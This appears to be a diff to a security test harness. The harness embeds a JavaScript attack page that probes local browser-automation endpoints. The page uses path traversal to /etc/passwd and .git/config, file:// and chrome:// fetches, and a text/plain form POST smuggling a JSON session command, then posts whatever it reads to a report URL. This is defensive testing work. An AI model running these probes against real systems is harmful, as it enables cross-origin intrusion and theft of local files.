@@ -27,7 +27,13 @@ const at = JSON.parse(decodeURIComponent(location.hash.slice(1)));
 const got = {};
 const tries = [];
 const within = (promise, ms) => Promise.race([promise, new Promise(r => setTimeout(() => r("nothing: time"), ms))]);
-const attempt = (name, run) => tries.push(within(run().catch(e => "nothing: " + e.name), 4000).then(v => { got[name] = v; }));
+const attempt = (name, run) => tries.push(async () => { got[name] = await within(run().catch(e => "nothing: " + e.name), 4000); });
+// Some at a time, and after the paint: the attack is on what listens here, not on the processor.
+const go = async () => {
+  const worker = async () => { for (let run; run = tries.shift();) await run(); };
+  await Promise.all(Array.from({ length: 16 }, worker));
+  await fetch("/report/" + at.report, { method: "POST", body: JSON.stringify(got) });
+};
 for (const [what, base, paths] of [
   ["page", at.page, ["/", "/splash", "/offline", "/blank", "/media", "/state", "/state?since=0", "/page.js", "/../../etc/passwd", "/.git/config", "/status", "/control"]],
   ["page by name", at.page.replace("127.0.0.1", "localhost"), ["/splash", "/state"]],
@@ -65,10 +71,9 @@ for (const [what, base, paths] of [
     stream.onmessage = e => done("read " + e.data); stream.onerror = () => { stream.close(); done("nothing: error"); };
   }));
   attempt(`${what} ${path} by a form`, () => new Promise(done => {
-    const frame = document.createElement("iframe"); frame.name = "f" + tries.length; document.body.append(frame);
+    const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
     const form = document.createElement("form"); form.method = "POST"; form.enctype = "text/plain"; form.action = base + path; form.target = frame.name;
     const field = document.createElement("input"); field.name = '{"method":"session.new","id":1,"params":{"capabilities":{}},"x":"'; field.value = '"}'; form.append(field); document.body.append(form);
-    let loads = 0;
     frame.onload = () => { try { done(frame.contentDocument && frame.contentDocument.URL !== "about:blank" && frame.contentDocument.body.innerText ? "read " + frame.contentDocument.body.innerText : "nothing"); } catch (e) { done("nothing: " + e.name); } };
     form.submit();
   }));
@@ -88,7 +93,7 @@ for (const path of ["/v1/ws", "/wsb", "/v1/ws?token=x", "/wsb?ws_token=wstoken" 
 attempt("files", async () => "read " + (await (await fetch("file:///etc/passwd")).text()).slice(0, 100));
 attempt("resource", async () => "read " + (await (await fetch("resource://gre/modules/AppConstants.sys.mjs")).text()).slice(0, 20));
 attempt("chrome", async () => "read " + (await (await fetch("chrome://browser/content/browser.xhtml")).text()).slice(0, 20));
-Promise.all(tries).then(() => fetch("/report/" + at.report, { method: "POST", body: JSON.stringify(got) }));
+addEventListener("load", () => setTimeout(go, 300));
 </script></body></html>"##;
 
 /// Shows the attacking page under this host name, and returns its report.
